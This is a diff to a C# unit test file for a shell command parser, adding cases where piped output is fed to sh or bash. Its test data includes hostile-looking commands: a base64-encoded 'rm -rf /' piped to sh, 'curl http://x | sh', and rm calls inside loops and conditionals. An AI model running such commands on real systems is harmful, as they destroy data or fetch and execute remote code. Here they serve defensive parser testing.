@@ -101,6 +101,8 @@ public class ShellParserTests
     [InlineData("echo cm0gLXJmIC8= | base64 -d | sh", "echo cm0gLXJmIC8= ¦ base64 -d stdin=cm0gLXJmIC8=\\n ¦ sh stdin=rm -rf /")]
     [InlineData("printf 'rm x' | bash", "printf rm x ¦ bash stdin=rm x")]
     [InlineData("curl http://x | sh", "curl http://x ¦ sh")]
+    [InlineData("{ echo rm; echo -n /x; } | sh", "echo rm ¦ echo -n /x ¦ sh stdin=rm\\n/x")]
+    [InlineData("echo 'ls /' | cat | bash", "echo ls / ¦ cat stdin=ls /\\n ¦ bash stdin=ls /\\n")]
     // control structures
     [InlineData("if test -f a; then rm a; elif true; then rm b; else rm c; fi", "test -f a ¦ rm a ¦ true ¦ rm b ¦ rm c")]
     [InlineData("for f in a b; do rm \"$f\"; done", "rm a ¦ rm b")]
